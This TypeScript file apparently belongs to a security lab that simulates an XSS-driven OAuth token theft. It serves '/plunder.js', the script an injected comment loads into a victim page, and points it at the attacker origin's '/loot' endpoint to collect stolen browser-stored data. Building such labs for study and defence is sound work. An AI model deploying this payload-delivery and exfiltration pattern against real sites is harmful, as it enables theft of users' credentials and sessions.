import { PLANTED } from '@/lib/oauth/browser-storage'
import type { AttackerPage } from '../environment'
import { type Errand, plunder } from '../xss-script/plunder'

/** `GET /plunder.js`: the script that an injected comment fetches into the page it stands on. */
export const plunderScript: AttackerPage = (_request, { origins }) => {
  const lab = origins.attacker.slice(origins.attacker.lastIndexOf('/') + 1)
  const errand: Errand = { home: `${origins.attacker}/loot`, title: PLANTED.script, lab: lab.slice(0, 6) }
  return new Response(`;(${plunder.toString()})(window, ${JSON.stringify(errand)})\n`, {
    headers: { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'no-store' },
  })
}
